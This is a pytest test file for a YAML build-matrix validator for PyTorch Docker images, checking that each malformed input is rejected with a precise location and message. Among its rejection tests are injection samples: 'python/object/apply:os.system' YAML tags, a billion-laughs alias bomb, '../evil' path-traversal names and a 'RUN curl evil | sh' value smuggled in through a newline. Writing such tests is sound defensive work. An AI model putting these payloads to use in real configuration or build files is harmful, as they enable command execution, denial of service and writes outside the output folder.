"""What `parse_matrix` accepts, and what it tells a person about what it rejects.

Every bad document below is the small valid `BASE` with one thing changed, and
every test asserts where the person is sent (`file:line:col`) and the words of
the message that tell them what to do. Positions are computed with `at()` from
the document text itself, so a test reads "the problem is at `12.10`" rather
than a bare pair of numbers.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from imagekit.errors import Problem, ValidationError
from imagekit.matrix.compat import load_compat
from imagekit.matrix.load import MAX_MATRIX_BYTES, Matrix, load_matrix, parse_matrix
from tests.matrixdoc import FILE, at, one_problem, problems, where

ROOT = Path(__file__).resolve().parents[3]
DIGEST = "@sha256:" + "0123456789abcdef" * 4

# The smallest valid matrix: one release entry, one cell, two images. Bases are
# pinned so that it loads without warnings. `releases` comes last so that a test
# can append an entry to it.
BASE = f"""\
schema_version: 1
repository: ghcr.io/acme/pytorch
bases:
  ubuntu-24.04: "ubuntu:24.04{DIGEST}"
defaults:
  os: ubuntu-24.04
  python: "3.12"
flavours:
  slim:
    size_budget_bytes: 8000000000
  full:
    size_budget_bytes: 11000000000
latest:
  torch: "2.14.1"
  cuda: "13.0"
releases:
  - torch: "2.14.1"
    cuda: ["13.0"]
"""


# Helpers ---------------------------------------------------------------------------


def edit(old: str, new: str, text: str = BASE) -> str:
    """`text` with its one occurrence of `old` replaced by `new`."""
    assert text.count(old) == 1, f"{old!r} occurs {text.count(old)} times"
    return text.replace(old, new)


def with_base(os_name: str, image: str, text: str = BASE) -> str:
    """`text` with one more entry under `bases`."""
    return edit("bases:\n", f'bases:\n  {os_name}: "{image}{DIGEST}"\n', text)


def with_exclude(block: str, text: str = BASE) -> str:
    """`text` with an `exclude:` list (given as its indented items) before `releases`."""
    return edit("releases:\n", f"exclude:\n{block}releases:\n", text)


def parse(text: str) -> Matrix:
    return parse_matrix(text, FILE)


# The base document ---------------------------------------------------------------


def test_base_document_is_valid_and_has_one_cell_in_two_flavours() -> None:
    matrix = parse(BASE)
    assert [c.id for c in matrix.cells] == ["2.14.1-cu130-py3.12"]
    assert [p.flavour for p in matrix.plans] == ["slim", "full"]
    assert matrix.warnings == ()


def test_problems_render_as_file_line_col_message_and_hint() -> None:
    doc = edit('cuda: ["13.0"]', "cuda: [12.10]")
    with pytest.raises(ValidationError) as info:
        parse(doc)
    assert info.value.format() == (
        "matrix.yaml:18:12: cuda: YAML read 12.10 as the number 12.1, not as text\n"
        '    hint: quote it: "12.10"\n'
        "1 problem found; nothing was built."
    )


# 1. Not YAML -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("doc", "context", "target", "words"),
    [
        pytest.param(
            edit("repository: ghcr.io/acme/pytorch", "repository: ghcr.io/acme/pytorch: x"),
            "pytorch: x",
            ": x",
            ["mapping values are not allowed"],
            id="second-colon",
        ),
        pytest.param(
            edit("    size_budget_bytes: 8000000000", "\tsize_budget_bytes: 8000000000"),
            "\tsize_budget_bytes",
            None,
            ["'\\t'"],
            id="tab-indent",
        ),
        pytest.param(
            edit('python: "3.12"', "python: *nope"),
            "*nope",
            None,
            ["undefined alias 'nope'"],
            id="undefined-alias",
        ),
    ],
)
def test_yaml_syntax_error_is_located_as_not_valid_yaml(
    doc: str, context: str, target: str | None, words: list[str]
) -> None:
    problem = one_problem(doc)
    assert where(problem) == at(doc, context, target)
    assert problem.message.startswith("not valid YAML: ")
    for word in words:
        assert word in problem.message
    assert "fix the syntax" in problem.hint


def test_unclosed_bracket_is_reported_where_the_document_ends() -> None:
    doc = edit('cuda: ["13.0"]', 'cuda: ["13.0"')
    problem = one_problem(doc)
    assert where(problem) == (doc.count("\n") + 1, 1)
    assert "not valid YAML" in problem.message
    assert "expected ',' or ']'" in problem.message


def test_second_yaml_document_is_rejected_at_its_start() -> None:
    doc = BASE + "---\nschema_version: 1\n"
    problem = one_problem(doc)
    assert where(problem) == at(doc, "---\nschema_version", "schema_version")
    assert "more than one YAML document" in problem.message


@pytest.mark.parametrize("doc", ["- a\n- b\n", "42\n", '"just text"\n'])
def test_document_that_is_not_a_mapping_is_rejected(doc: str) -> None:
    problem = one_problem(doc)
    assert where(problem) == (1, 1)
    assert "must be a mapping" in problem.message


def test_aliases_that_expand_too_far_are_rejected() -> None:
    # "Billion laughs": each level doubles the one below it.
    levels = ["l0: &l0 [x, x]"] + [f"l{i}: &l{i} [*l{i - 1}, *l{i - 1}]" for i in range(1, 20)]
    doc = "\n".join(levels) + "\n"
    problem = one_problem(doc)
    assert "too large" in problem.message
    assert problem.line <= len(levels)


# 2. Tags that would construct objects ------------------------------------------------


@pytest.mark.parametrize(
    ("value", "tag"),
    [
        ("!!python/object:os.system x", "tag:yaml.org,2002:python/object:os.system"),
        ("!!python/object:os.system {command: x}", "tag:yaml.org,2002:python/object:os.system"),
        ('!!python/object/apply:os.system ["echo hi"]', "python/object/apply:os.system"),
        ("!foo x", "!foo"),
        ("!foo [1, 2]", "!foo"),
    ],
)
def test_yaml_tag_that_would_build_an_object_is_rejected_with_its_line(
    value: str, tag: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    def boom(*args: object) -> None:  # pragma: no cover - must never run
        raise AssertionError("os.system was called")

    monkeypatch.setattr(os, "system", boom)
    doc = edit("repository: ghcr.io/acme/pytorch", f"repository: {value}")
    problem = one_problem(doc)
    assert where(problem) == at(doc, value)
    assert "YAML tag" in problem.message
    assert tag in problem.message
    assert "not allowed" in problem.message
    assert "remove the tag" in problem.hint


# 3. Duplicate keys ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("doc", "first", "second", "key"),
    [
        pytest.param(
            edit(
                "repository: ghcr.io/acme/pytorch\n",
                "repository: ghcr.io/acme/pytorch\nrepository: ghcr.io/acme/other\n",
            ),
            ("repository: ghcr.io/acme/pytorch", "repository"),
            ("repository: ghcr.io/acme/other", "repository"),
            "repository",
            id="top-level",
        ),
        pytest.param(
            BASE + '    torch: "2.8.0"\n',
            ('- torch: "2.14.1"', "torch"),
            ('    torch: "2.8.0"', "torch"),
            "torch",
            id="in-a-release-entry",
        ),
        pytest.param(
            edit("defaults:\n", "defaults:\n  os: ubuntu-22.04\n"),
            ("os: ubuntu-22.04", "os"),
            ("os: ubuntu-24.04", "os"),
            "os",
            id="in-defaults",
        ),
    ],
)
def test_duplicate_key_names_both_lines(
    doc: str, first: tuple[str, str], second: tuple[str, str], key: str
) -> None:
    problem = one_problem(doc)
    first_line, first_col = at(doc, *first)
    assert where(problem) == at(doc, *second)
    assert f"duplicate key {key!r}" in problem.message
    assert f"line {first_line}, column {first_col}" in problem.message
    assert "remove one" in problem.hint


# 4. Versions YAML reads as numbers or booleans -------------------------------------------


@pytest.mark.parametrize(
    ("old", "new", "context", "target", "words", "quoted"),
    [
        pytest.param(
            'cuda: ["13.0"]',
            "cuda: [12.10]",
            "[12.10]",
            "12.10",
            ["cuda", "12.10", "number 12.1,"],
            '"12.10"',
            id="cuda-12.10-float",
        ),
        pytest.param(
            'cuda: ["13.0"]',
            "cuda: [13]",
            "[13]",
            "13",
            ["cuda", "YAML read 13 as the number 13"],
            '"13"',
            id="cuda-13-int",
        ),
        pytest.param(
            '  cuda: "13.0"\n',
            "  cuda: 13.0\n",
            "cuda: 13.0",
            "13.0",
            ["cuda", "YAML read 13.0 as the number 13.0"],
            '"13.0"',
            id="latest-cuda-float",
        ),
        pytest.param(
            'python: "3.12"',
            "python: 3.10",
            "python: 3.10",
            "3.10",
            ["python", "3.10", "number 3.1,"],
            '"3.10"',
            id="python-3.10-float",
        ),
        pytest.param(
            'python: "3.12"',
            "python: no",
            "python: no",
            "no",
            ["python", "YAML read no as the boolean false"],
            '"no"',
            id="python-no-bool",
        ),
        pytest.param(
            'python: "3.12"',
            "python: [yes]",
            "[yes]",
            "yes",
            ["python", "YAML read yes as the boolean true"],
            '"yes"',
            id="python-yes-bool-in-list",
        ),
    ],
)
def test_unquoted_version_is_rejected_with_its_line_and_a_hint_to_quote_it(
    old: str, new: str, context: str, target: str, words: list[str], quoted: str
) -> None:
    doc = edit(old, new)
    problem = one_problem(doc)
    assert where(problem) == at(doc, context, target)
    for word in words:
        assert word in problem.message
    assert "not as text" in problem.message
    assert problem.hint == f"quote it: {quoted}"


@pytest.mark.parametrize(
    ("old", "new", "context", "target", "field", "hint"),
    [
        pytest.param(
            '  torch: "2.14.1"\n  cuda',
            "  torch:\n  cuda",
            "torch:\n  cuda",
            "\n",
            "torch",
            'write a torch release like "2.8.0"',
            id="empty",
        ),
        pytest.param(
            'cuda: ["13.0"]',
            'cuda: ["13.0", ~]',
            "~",
            None,
            "cuda",
            'write a CUDA version like "12.8", or "cpu"',
            id="tilde",
        ),
        pytest.param(
            "repository: ghcr.io/acme/pytorch",
            "repository: null",
            "null",
            None,
            "repository",
            "write some text",
            id="null",
        ),
    ],
)
def test_missing_value_says_no_value_given_rather_than_quote_it(
    old: str, new: str, context: str, target: str | None, field: str, hint: str
) -> None:
    # "quote it" is the fix for 12.10 and `no`; for an empty value it is not.
    doc = edit(old, new)
    problem = one_problem(doc)
    assert where(problem) == at(doc, context, target)
    assert problem.message == f"{field}: no value given"
    assert problem.hint == hint


# 5. Unknown keys -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("doc", "key", "suggestion"),
    [
        pytest.param(BASE + '    pyhton: "3.12"\n', "pyhton", "python", id="in-entry"),
        pytest.param(edit("  python: ", "  pyton: "), "pyton", "python", id="in-defaults"),
        pytest.param(
            edit(
                "    size_budget_bytes: 8000000000",
                "    size_budget_bytes: 8000000000\n    pakages: []",
            ),
            "pakages",
            "packages",
            id="in-flavour",
        ),
        pytest.param(edit("repository:", "repositry:"), "repositry", "repository", id="top-level"),
    ],
)
def test_unknown_key_is_located_and_suggests_the_closest_known_key(
    doc: str, key: str, suggestion: str
) -> None:
    found = problems(doc)
    unknown = [p for p in found if "unknown key" in p.message]
    assert len(unknown) == 1, "\n".join(p.format() for p in found)
    problem = unknown[0]
    assert where(problem) == at(doc, f"{key}:", key)
    assert problem.message == f"unknown key {key!r}"
    assert f"did you mean {suggestion!r}?" in problem.hint
    assert "known keys:" in problem.hint


@pytest.mark.parametrize("key", ['"x["', '"list[str]"', "'a[0]'"])
def test_unknown_key_with_a_bracket_is_reported_not_dropped(key: str) -> None:
    # pydantic names union members like "list[str]" in error locations; a key
    # of the document that looks like one must still be reported as itself.
    doc = BASE.replace("bases:", f"{key}: 1\nbases:")
    problem = one_problem(doc)
    assert where(problem) == at(doc, key)
    assert problem.message == f"unknown key {key[1:-1]!r}"


def test_misspelt_required_key_also_reports_the_missing_one() -> None:
    doc = edit("repository:", "repositry:")
    found = problems(doc)
    assert [p.message for p in found] == [
        "missing required key 'repository' in the matrix",
        "unknown key 'repositry'",
    ]


# 6. Wrong types ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("old", "new", "context", "target", "words"),
    [
        pytest.param(
            "8000000000",
            '"big"',
            '"big"',
            None,
            ["flavours.slim.size_budget_bytes", "valid integer"],
            id="size-budget-text",
        ),
        pytest.param(
            "8000000000",
            "-1",
            "-1",
            None,
            ["flavours.slim.size_budget_bytes", "greater than 0"],
            id="size-budget-negative",
        ),
        pytest.param(
            "defaults:",
            'user:\n  uid: "1000"\ndefaults:',
            '"1000"',
            None,
            ["user.uid", "valid integer"],
            id="uid-text",
        ),
        pytest.param(
            '    cuda: ["13.0"]',
            '    cuda: ["13.0"]\n    allow_experimental: "yes"',
            '"yes"',
            None,
            ["releases.0.allow_experimental", "valid boolean"],
            id="bool-as-text",
        ),
        pytest.param(
            '    cuda: ["13.0"]',
            '    cuda: "13.0"',
            '- torch: "2.14.1"\n    cuda: "13.0"',
            '"13.0"',
            ["releases.0.cuda", "valid list"],
            id="text-instead-of-list",
        ),
        pytest.param(
            "schema_version: 1",
            "schema_version: 2",
            "schema_version: 2",
            "2",
            ["schema_version 2 is not supported", "reads 1"],
            id="schema-version",
        ),
        pytest.param(
            'torch: "2.14.1"\n    cuda',
            'torch: "2.14"\n    cuda',
            '"2.14"',
            None,
            ["torch: '2.14' is not", 'like "2.8.0"'],
            id="torch-not-three-part",
        ),
    ],
)
def test_wrong_type_is_rejected_with_its_line(
    old: str, new: str, context: str, target: str | None, words: list[str]
) -> None:
    doc = edit(old, new)
    problem = one_problem(doc)
    assert where(problem) == at(doc, context, target)
    for word in words:
        assert word in problem.message


# 7. Empty ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "doc",
    ["", "# only a comment\n", "\n\n   \n", "# a comment\n\n# and another\n", "---\n"],
    ids=["empty", "comment", "blank-lines", "comments", "empty-document-marker"],
)
def test_empty_matrix_is_rejected(doc: str) -> None:
    problem = one_problem(doc)
    assert where(problem) == (1, 1)
    assert problem.message == "the matrix is empty"
    assert "README" in problem.hint


# 8. Duplicate cells --------------------------------------------------------------------


def test_duplicate_cell_in_two_entries_names_the_first() -> None:
    doc = BASE + '  - torch: "2.14.1"\n    cuda: ["13.0", "12.6"]\n'
    problem = one_problem(doc)
    first_line, first_col = at(doc, '    cuda: ["13.0"]\n', '"13.0"')
    assert where(problem) == at(doc, '["13.0", "12.6"]', '"13.0"')
    assert "duplicate cell 2.14.1-cu130-py3.12" in problem.message
    assert f"line {first_line}, column {first_col}" in problem.message
    assert "may appear once" in problem.hint


def test_duplicate_cell_within_one_entry_is_rejected() -> None:
    doc = edit('cuda: ["13.0"]', 'cuda: ["13.0", "13.0"]')
    problem = one_problem(doc)
    assert where(problem) == at(doc, ', "13.0"]', '"13.0"')
    assert "duplicate cell 2.14.1-cu130-py3.12" in problem.message


# 9. torch/CUDA pairs without wheels ----------------------------------------------------------


@pytest.mark.parametrize(
    ("torch", "cuda", "message"),
    [
        ("2.8.0", "11.8", "torch 2.8.0 has no CUDA 11.8 build; it has 12.6, 12.8, 12.9 (and cpu)"),
        ("2.7.1", "12.9", "torch 2.7.1 has no CUDA 12.9 build; it has 11.8, 12.6, 12.8 (and cpu)"),
        ("2.15.0", "12.8", "torch 2.15.0 has no CUDA 12.8 build; it has 13.2 (and cpu)"),
    ],
)
def test_torch_cuda_pair_without_wheels_lists_the_valid_choices(
    torch: str, cuda: str, message: str
) -> None:
    doc = BASE + f'  - torch: "{torch}"\n    cuda: ["{cuda}"]\n'
    problem = one_problem(doc)
    assert where(problem) == at(doc, f'["{cuda}"]', f'"{cuda}"')
    assert problem.message == message


def test_unknown_torch_release_lists_the_known_ones() -> None:
    doc = BASE + '  - torch: "2.99.0"\n    cuda: ["13.0"]\n'
    problem = one_problem(doc)
    assert where(problem) == at(doc, '"2.99.0"')
    assert "torch 2.99.0 is not a release imagekit knows" in problem.message
    assert "2.8.0" in problem.message and "2.15.0" in problem.message


# 10. Python outside the release's range -----------------------------------------------------


def test_python_outside_the_release_range_is_rejected_with_the_range() -> None:
    # ubuntu-22.04 provides Python 3.10, but torch 2.15.0 starts at 3.11.
    doc = with_base("ubuntu-22.04", "ubuntu:22.04") + (
        '  - torch: "2.15.0"\n    cuda: ["13.2"]\n    os: ubuntu-22.04\n    python: "3.10"\n'
    )
    problem = one_problem(doc)
    assert where(problem) == at(doc, '"3.10"')
    assert problem.message == (
        "torch 2.15.0 has no wheels for Python 3.10; it supports Python 3.11-3.15"
    )


def test_python_the_base_os_does_not_provide_names_the_os_that_does() -> None:
    doc = BASE + '  - torch: "2.14.1"\n    cuda: ["12.6"]\n    python: "3.11"\n'
    problem = one_problem(doc)
    assert where(problem) == at(doc, '"3.11"')
    assert problem.message == (
        "ubuntu-24.04 provides Python 3.12, not 3.11; Python 3.11 comes with "
        "debian-12, ubuntu-22.04"
    )


# 11. glibc too old ----------------------------------------------------------------------


GLIBC_DOC = with_base("ubuntu-18.04", "ubuntu:18.04") + (
    '  - torch: "2.8.0"\n    cuda: ["12.8"]\n    os: ubuntu-18.04\n    python: "3.9"\n'
)


def _assert_glibc_problem(problem: Problem) -> None:
    assert where(problem) == at(GLIBC_DOC, "os: ubuntu-18.04", "ubuntu-18.04")
    assert problem.message.startswith(
        "ubuntu-18.04 has glibc 2.27 but the torch 2.8.0 wheels (manylinux_2_28) "
        "need glibc >= 2.28; use one of "
    )
    assert "ubuntu-24.04" in problem.message


def test_base_os_with_too_old_glibc_is_rejected_at_its_os() -> None:
    # No shipped combination has only glibc wrong: ubuntu-18.04 (glibc 2.27)
    # provides Python <= 3.8 and every manylinux_2_28 release needs >= 3.9.
    # So the glibc problem comes with the Python one here.
    found = problems(GLIBC_DOC)
    glibc = [p for p in found if "glibc" in p.message]
    assert len(glibc) == 1, "\n".join(p.format() for p in found)
    _assert_glibc_problem(glibc[0])
    others = [p for p in found if p not in glibc]
    assert [p.message for p in others] == [
        "ubuntu-18.04 provides Python 3.6, 3.7, 3.8, not 3.9; Python 3.9 comes with ubuntu-20.04"
    ]


def test_too_old_glibc_alone_is_the_only_problem() -> None:
    # The same document against compatibility data in which ubuntu-18.04 also
    # provides Python 3.9: now glibc is the one thing wrong.
    compat = load_compat()
    old = compat.os["ubuntu-18.04"]
    patched = compat.model_copy(
        update={"os": {**compat.os, "ubuntu-18.04": old.model_copy(update={"python": ("3.9",)})}}
    )
    _assert_glibc_problem(one_problem(GLIBC_DOC, compat=patched))


# 12. GPU architectures ------------------------------------------------------------------


@pytest.mark.parametrize("archs", ["[sm_70]", "[sm_80, sm_70]", "[sm_61, sm_70]"])
def test_cuda_13_with_a_dropped_gpu_architecture_is_rejected(archs: str) -> None:
    doc = BASE + f"    gpu_archs: {archs}\n"
    problem = one_problem(doc)
    assert where(problem) == at(doc, archs)
    assert "sm_70" in problem.message
    assert "CUDA 13.0 cannot target" in problem.message
    assert "removed in CUDA 13" in problem.message
    assert "CUDA 12.x" in problem.message


def test_dropped_architecture_is_fine_on_cuda_12() -> None:
    doc = edit('cuda: ["13.0"]', 'cuda: ["12.6"]', edit('cuda: "13.0"', 'cuda: "12.6"'))
    matrix = parse(doc + "    gpu_archs: [sm_70]\n")
    assert "sm_70" in matrix.cells[0].archs


def test_architecture_the_wheel_was_not_compiled_for_is_rejected() -> None:
    doc = BASE + "    gpu_archs: [sm_90, sm_89]\n"
    problem = one_problem(doc)
    assert where(problem) == at(doc, "[sm_90, sm_89]")
    assert "torch 2.14.1 with CUDA 13.0 is not compiled for sm_89" in problem.message


# 13. Control characters and line breaks ----------------------------------------------------


@pytest.mark.parametrize(
    ("old", "new", "context", "target", "words"),
    [
        pytest.param(
            "repository: ghcr.io/acme/pytorch",
            'repository: "ghcr.io/acme/py\x07torch"',
            "\x07",
            None,
            ["not valid YAML", "U+0007"],
            id="raw-bell-in-quoted-string",
        ),
        pytest.param(
            "repository: ghcr.io/acme/pytorch",
            'repository: "ghcr.io/acme/py\\x07torch"',
            '"ghcr.io',
            None,
            ["control characters", "U+0007"],
            id="escaped-bell-in-quoted-string",
        ),
        pytest.param(
            "repository: ghcr.io/acme/pytorch",
            "repository: |\n  ghcr.io/acme/pytorch\n  ghcr.io/acme/other",
            "|",
            None,
            ["line breaks", "U+000A"],
            id="block-scalar-with-newline",
        ),
        pytest.param(
            "repository: ghcr.io/acme/pytorch",
            "repository: |-\n  ghcr.io/acme/pytorch\n  ghcr.io/acme/other",
            "|-",
            None,
            ["line breaks", "U+000A"],
            id="stripped-block-scalar-with-newline",
        ),
        pytest.param(
            "repository: ghcr.io/acme/pytorch",
            'repository: "ghcr.io/acme/pytorch\\u200b"',
            '"ghcr.io',
            None,
            ["U+200B"],
            id="zero-width-space",
        ),
        pytest.param(
            "repository: ghcr.io/acme/pytorch",
            'repository: ghcr.io/acme/pytorch\ntag_prefix: "nightly\\t"',
            '"nightly',
            None,
            ["U+0009"],
            id="tab-in-tag-prefix",
        ),
        pytest.param(
            '    cuda: ["13.0"]',
            '    cuda: ["13.0"]\n    name: "stable\\nRUN curl evil | sh"',
            '"stable',
            None,
            ["U+000A"],
            id="newline-in-entry-name",
        ),
        pytest.param(
            "  os: ubuntu-24.04",
            '  os: "ubuntu-24.04\\r"',
            '"ubuntu-24.04\\r"',
            None,
            ["U+000D"],
            id="carriage-return-in-os",
        ),
        pytest.param(
            "bases:\n",
            'bases:\n  "ubuntu\\n22.04": "ubuntu:22.04"\n',
            '"ubuntu\\n22.04"',
            None,
            ["control characters (U+000A) in a key"],
            id="newline-in-a-key",
        ),
    ],
)
def test_control_character_or_line_break_in_a_string_is_rejected_with_its_line(
    old: str, new: str, context: str, target: str | None, words: list[str]
) -> None:
    doc = edit(old, new)
    problem = one_problem(doc)
    assert where(problem) == at(doc, context, target)
    for word in words:
        assert word in problem.message


# 14. Tags Docker would refuse ------------------------------------------------------------


@pytest.mark.parametrize(
    ("prefix", "words"),
    [
        pytest.param("nightly+", ["is not a valid Docker tag", "'+'"], id="plus"),
        pytest.param("nightly/", ["is not a valid Docker tag", "'/'"], id="slash"),
        pytest.param("-nightly-", ["is not a valid Docker tag", "first character"], id="dash"),
        pytest.param("Nightly-", ["has uppercase letters", "lowercase"], id="uppercase"),
        pytest.param("a" * 95, ["129 characters long", "at most 128"], id="129-chars"),
    ],
)
def test_tag_prefix_that_makes_an_invalid_docker_tag_is_rejected(
    prefix: str, words: list[str]
) -> None:
    doc = edit(
        "repository: ghcr.io/acme/pytorch\n",
        f'repository: ghcr.io/acme/pytorch\ntag_prefix: "{prefix}"\n',
    )
    found = problems(doc)
    # The slim and the full tag of the one cell are both bad.
    assert len(found) == 2, "\n".join(p.format() for p in found)
    for problem, flavour in zip(found, ("full", "slim"), strict=True):
        assert where(problem) == at(doc, f'"{prefix}"')
        assert f"tag '{prefix}2.14.1-cuda13.0-cudnn9-py3.12-{flavour}'" in problem.message
        for word in words:
            assert word in problem.message
        length = "characters long" in problem.message
        assert ("shorten tag_prefix" if length else "a-z, 0-9") in problem.hint


def test_tag_of_exactly_128_characters_is_accepted() -> None:
    prefix = "a" * 94
    doc = edit(
        "repository: ghcr.io/acme/pytorch\n",
        f'repository: ghcr.io/acme/pytorch\ntag_prefix: "{prefix}"\n',
    )
    matrix = parse(doc)
    assert sorted(len(p.tag) for p in matrix.plans) == [128, 128]
    assert all(p.tag.startswith(prefix) for p in matrix.plans)
    assert f"{prefix}latest" in matrix.plans[1].aliases


# 15. Output names -----------------------------------------------------------------------


@pytest.mark.parametrize("name", ['"../evil"', '".."', '"a/b"', '".hidden"', "'a\\b'"])
def test_entry_name_that_would_escape_the_output_folder_is_rejected(name: str) -> None:
    doc = BASE + f"    name: {name}\n"
    problem = one_problem(doc)
    assert where(problem) == at(doc, name)
    assert "would write outside the output folder" in problem.message
    assert "plain name" in problem.hint


@pytest.mark.parametrize("name", ['"Stable"', '"a b"', '"st@ble"'])
def test_entry_name_with_other_characters_is_rejected(name: str) -> None:
    doc = BASE + f"    name: {name}\n"
    problem = one_problem(doc)
    assert where(problem) == at(doc, name)
    assert "may hold only lowercase letters, digits" in problem.message


def test_entry_name_prefixes_the_cell_id() -> None:
    matrix = parse(BASE + '    name: "stable"\n')
    assert [c.id for c in matrix.cells] == ["stable-cu130-py3.12"]


# 16. All problems at once --------------------------------------------------------------


def test_three_independent_input_errors_are_all_reported() -> None:
    doc = edit(
        "repository: ghcr.io/acme/pytorch\n",
        "repository: ghcr.io/acme/pytorch\nrepository: ghcr.io/acme/other\n",
        edit("8000000000", '"big"', BASE + '    pyhton: "3.12"\n'),
    )
    found = problems(doc)
    assert [(where(p), p.message) for p in found] == [
        (
            at(doc, "repository: ghcr.io/acme/other", "repository"),
            "duplicate key 'repository' (first defined at line 2, column 1)",
        ),
        (at(doc, '"big"'), "flavours.slim.size_budget_bytes: Input should be a valid integer"),
        (at(doc, "pyhton"), "unknown key 'pyhton'"),
    ]


def test_three_independent_compatibility_errors_are_all_reported() -> None:
    doc = (
        with_exclude(
            '  - torch: "2.8.0"\n    reason: "old"\n',
            edit("ghcr.io/acme/pytorch", "ghcr.io/Acme/pytorch"),
        )
        + '  - torch: "2.8.0"\n    cuda: ["11.8"]\n'
    )
    found = problems(doc)
    assert [(where(p), p.message) for p in found] == [
        (
            at(doc, "ghcr.io/Acme/pytorch"),
            "repository 'ghcr.io/Acme/pytorch' must be lowercase",
        ),
        (at(doc, '- torch: "2.8.0"\n    reason', "torch"), "this exclusion matches no image"),
        (
            at(doc, '["11.8"]', '"11.8"'),
            "torch 2.8.0 has no CUDA 11.8 build; it has 12.6, 12.8, 12.9 (and cpu)",
        ),
    ]


# 17. Exclusions -------------------------------------------------------------------------


def test_exclusion_without_reason_is_rejected() -> None:
    doc = with_exclude('  - torch: "2.14.1"\n    flavour: full\n')
    problem = one_problem(doc)
    assert where(problem) == at(doc, '- torch: "2.14.1"\n    flavour', "torch")
    assert problem.message == "missing required key 'reason' in exclude.0"


def test_exclusion_with_empty_reason_is_rejected() -> None:
    doc = with_exclude('  - torch: "2.14.1"\n    flavour: full\n    reason: ""\n')
    problem = one_problem(doc)
    assert where(problem) == at(doc, 'reason: ""', '""')
    assert "exclude.0.reason" in problem.message
    assert "at least 1 character" in problem.message


def test_exclusion_that_matches_nothing_is_rejected() -> None:
    doc = with_exclude('  - torch: "2.14.1"\n    cuda: "12.6"\n    reason: "not built"\n')
    problem = one_problem(doc)
    assert where(problem) == at(doc, '- torch: "2.14.1"\n    cuda: "12.6"', "torch")
    assert problem.message == "this exclusion matches no image"
    assert "remove it" in problem.hint


def test_exclusion_with_reason_drops_the_image_and_latest_moves_to_slim() -> None:
    doc = with_exclude('  - torch: "2.14.1"\n    flavour: full\n    reason: "no room"\n')
    matrix = parse(doc)
    assert [p.name for p in matrix.plans] == ["2.14.1-cu130-py3.12-slim"]
    assert matrix.plans[0].aliases == ("2.14-cuda13.0-slim", "latest-slim", "latest")


def test_excluding_every_image_is_rejected() -> None:
    doc = with_exclude('  - torch: "2.14.1"\n    reason: "nothing this week"\n')
    problem = one_problem(doc)
    # At the list of releases, that is at its first item.
    assert where(problem) == at(doc, '- torch: "2.14.1"\n    cuda')
    assert problem.message == "every image is excluded; nothing would be built"


# 18. Experimental variants ----------------------------------------------------------------


def test_experimental_variant_without_allow_experimental_is_rejected() -> None:
    doc = BASE + '  - torch: "2.8.0"\n    cuda: ["12.9"]\n'
    problem = one_problem(doc)
    assert where(problem) == at(doc, '["12.9"]', '"12.9"')
    assert "torch 2.8.0 with CUDA 12.9 is experimental" in problem.message
    assert "`allow_experimental: true`" in problem.hint


def test_experimental_variant_with_allow_experimental_is_built_and_marked() -> None:
    doc = BASE + '  - torch: "2.8.0"\n    cuda: ["12.9"]\n    allow_experimental: true\n'
    cell = parse(doc).cells[1]
    assert (cell.id, cell.experimental) == ("2.8.0-cu129-py3.12", True)


# Other meaning checks --------------------------------------------------------------------


def test_latest_that_matches_no_cell_lists_the_cells() -> None:
    doc = edit('  torch: "2.14.1"\n  cuda', '  torch: "2.8.0"\n  cuda')
    problem = one_problem(doc)
    assert where(problem) == at(doc, 'torch: "2.8.0"', "torch")
    assert problem.message == "latest (torch 2.8.0, cuda 13.0) matches no cell"
    assert problem.hint == "cells: 2.14.1-cu130-py3.12"


def test_entry_os_without_a_base_is_rejected() -> None:
    doc = BASE + '  - torch: "2.14.1"\n    cuda: ["12.6"]\n    os: debian-12\n'
    problem = one_problem(doc)
    assert where(problem) == at(doc, "debian-12")
    assert problem.message == "base OS 'debian-12' has no entry under `bases`"
    assert problem.hint == "bases lists ubuntu-24.04"


def test_unpinned_base_is_a_warning_not_an_error() -> None:
    doc = edit(f'"ubuntu:24.04{DIGEST}"', '"ubuntu:24.04"')
    (warning,) = parse(doc).warnings
    assert where(warning) == at(doc, '"ubuntu:24.04"')
    assert "not pinned by digest" in warning.message


# 19. The default matrix.yaml ---------------------------------------------------------------


@pytest.fixture(scope="module")
def default_matrix() -> Matrix:
    return load_matrix(ROOT / "matrix.yaml")


REQUIRED_CELLS = {
    "2.7.1": {"11.8", "12.6", "12.8"},
    "2.8.0": {"12.6", "12.8", "12.9"},
    "2.9.1": {"12.6", "12.8", "13.0"},
}


def test_default_matrix_has_the_required_cells(default_matrix: Matrix) -> None:
    built: dict[str, set[str]] = {}
    for cell in default_matrix.cells:
        built.setdefault(cell.torch, set()).add(cell.cuda or "cpu")
    for torch, cudas in REQUIRED_CELLS.items():
        assert cudas <= built[torch], torch
    compat = load_compat()
    # The two newest releases are built in every CUDA variant they ship.
    assert set(compat.torch["2.14.1"].cuda_versions()) <= built["2.14.1"]
    assert set(compat.torch["2.15.0"].cuda_versions()) <= built["2.15.0"]
    assert "cpu" in built["2.15.0"]


def test_default_matrix_builds_both_flavours_unless_excluded_with_a_reason(
    default_matrix: Matrix,
) -> None:
    spec = default_matrix.spec
    assert all(ex.reason.strip() for ex in spec.exclude)
    excluded = {
        (cell.id, ex.flavour)
        for cell in default_matrix.cells
        for ex in spec.exclude
        if ex.torch in (None, cell.torch)
        and ex.cuda in (None, cell.cuda or "cpu")
        and ex.python in (None, cell.python)
    }
    planned = {(p.cell.id, p.flavour) for p in default_matrix.plans}
    missing = {
        (cell.id, flavour)
        for cell in default_matrix.cells
        for flavour in ("slim", "full")
        if (cell.id, flavour) not in planned
    }
    # Each missing image is explained: by an exclusion with a reason, or by an
    # entry that asks for one flavour only (the jammy build is slim by choice).
    assert missing == {
        ("2.7.1-cu118-py3.12", "full"),
        ("2.8.0-cu129-py3.12", "full"),
        ("2.15.0-jammy-cu132-py3.11", "full"),
    }
    for cell_id, flavour in missing:
        cell = next(c for c in default_matrix.cells if c.id == cell_id)
        assert (cell_id, flavour) in excluded or flavour not in cell.flavours


def test_default_matrix_latest_cell_gets_the_latest_aliases(default_matrix: Matrix) -> None:
    holders = {
        alias: p.name
        for p in default_matrix.plans
        for alias in p.aliases
        if alias.startswith("latest")
    }
    assert holders == {
        "latest-slim": "2.15.0-cu132-py3.12-slim",
        "latest-full": "2.15.0-cu132-py3.12-full",
